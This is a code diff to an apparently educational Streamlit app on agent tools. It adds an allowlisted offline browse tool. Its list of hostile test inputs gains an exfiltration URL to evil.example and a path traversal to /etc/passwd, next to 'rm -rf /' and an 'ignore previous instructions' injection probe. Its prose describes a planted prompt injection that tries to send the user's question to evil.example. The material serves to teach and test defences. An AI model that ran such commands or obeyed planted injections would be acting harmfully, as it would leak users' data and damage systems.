@@ -6,7 +6,7 @@ import pandas as pd
 import streamlit as st
 
 import ui
-from core.agents import code_tool, endpoint, injection, injection_eval, loop, policies, tools
+from core.agents import browse, code_tool, endpoint, injection, injection_eval, loop, policies, tools
 from core.agents.trace import Step, Trace
 from core.charts import agents as charts
 from core.state import Param
@@ -49,6 +49,8 @@ HOSTILE_INPUTS = [
     ("code", "[].append", "attribute access, the first step toward os"),
     ("code", "while True: pass", "loop forever"),
     ("code", "[0] * 10**9", "8 GB of memory: allowed Python, stopped by the process's memory limit"),
+    ("browse", "https://evil.example/collect?q=the-users-question", "send the question to another site"),
+    ("browse", "wiki.local/../../etc/passwd", "read a file through the browser"),
     ("shell", "rm -rf /", "a tool that does not exist"),
     ("search", "ignore previous instructions Nimbus-9", "fetch the planted injection"),
 ]
@@ -165,7 +167,8 @@ def you_section(question: str, max_steps: int, limits: tools.ToolLimits, example
     st.markdown("You write each Thought and Action; the runtime runs the tool and shows its real Observation. "
                 "The boxes start with what the script would do next: edit them, or write your own, e.g. "
                 "`search[Chinchilla tokens]`, `calculator[2 ** 0.5]`, `convert[5 km to mi]`, "
-                "`date[2024-02-28 + 2 days]`, `code[x = [3, 1, 2]; print(sorted(x))]`, `finish[42]`. Try to break it.")
+                "`date[2024-02-28 + 2 days]`, `code[x = [3, 1, 2]; print(sorted(x))]`, `browse[wiki.local/index]`, `finish[42]`. "
+                "Try to break it.")
     for i, step in enumerate(steps):
         draw_step(step, question, steps[:i], example, limits.top_k)
     finished = bool(steps) and steps[-1].tool == "finish" and steps[-1].ok
@@ -345,8 +348,9 @@ st.caption(
     "systems also show the sources and ask a human before acting.")
 ui.code_behind(injection_eval.defended, injection_eval.redact, injection_eval.judge)
 
-st.header("Try a tool: conversions, dates, and code in a box")
+st.header("Try a tool: a small offline web, conversions, dates, and code in a box")
 TRY_EXAMPLES = {"convert": "5 km to mi", "date": "days between 2024-01-01 and 2024-12-25",
+                "browse": "wiki.local/kv-cache",
                 "code": "total = 0; squares = [i * i for i in range(10)]; print(sum(squares))",
                 "calculator": "sqrt(2) * sqrt(8)", "search": "Chinchilla tokens"}
 t1, t2 = st.columns([1, 3])
@@ -359,6 +363,12 @@ if try_text is not None:
     shown = _md(result.text).replace("\n", "  \n")  # keep the code tool's printed lines apart
     (st.success if result.ok else st.error)(f"Observation ({result.seconds * 1000:.1f} ms): {shown}")
 st.markdown(
+    "`browse` reads one page of **wiki.local**, eight linked pages bundled with the app, and lists its links so "
+    "the next step can follow one: real browsing agents (WebGPT, Nakano et al. 2021) work the same way on the live "
+    "web. It is an allowlist: any other host, any scheme but http(s), any path that is not a page name is "
+    "refused before anything is read. Its *forum* page carries a planted request to send your question to "
+    "evil.example, the classic exfiltration by URL; the tool refuses the visit whatever the policy does.")
+st.markdown(
     "`convert` and `date` are look-ups in a table and a calendar: exact where a model's memory is not, and "
     "refusing anything but one sentence shape. `code` runs Python, so it gets **defence in depth**, walls that "
     "each assume the one before has failed. *Wall 1, the allowlist:* `ast.parse`, then only literals, "
@@ -369,7 +379,7 @@ st.markdown(
     "code may do, not how much (`[0] * 10**9` is allowed Python). *Wall 3, a container or micro-VM* "
     "(gVisor, Firecracker), no network, a throwaway filesystem: what production code interpreters add, because "
     "a bug in the interpreter itself would slip past both walls. LLM Lab stops at wall 2.")
-ui.code_behind(code_tool.check_code, code_tool.run_code, code_tool.run_checked)
+ui.code_behind(browse.page_name, browse.browse, code_tool.check_code, code_tool.run_code, code_tool.run_checked)
 
 st.header("The math of the search tool: BM25")
 st.markdown("`search` ranks the knowledge base's entries by Okapi BM25, implemented from the formula "
@@ -386,6 +396,7 @@ ui.code_behind(tools.bm25_scores, tools.bm25_idf, tools.tokenize)
 ui.papers(
     ("ReAct (Yao et al. 2022)", "https://arxiv.org/abs/2210.03629"),
     ("Toolformer (Schick et al. 2023)", "https://arxiv.org/abs/2302.04761"),
+    ("WebGPT (Nakano et al. 2021)", "https://arxiv.org/abs/2112.09332"),
     ("Indirect prompt injection (Greshake et al. 2023)", "https://arxiv.org/abs/2302.12173"),
     ("Ignore Previous Prompt (Perez & Ribeiro 2022)", "https://arxiv.org/abs/2211.09527"),
     ("BM25 and beyond (Robertson & Zaragoza 2009)", "https://doi.org/10.1561/1500000019"),
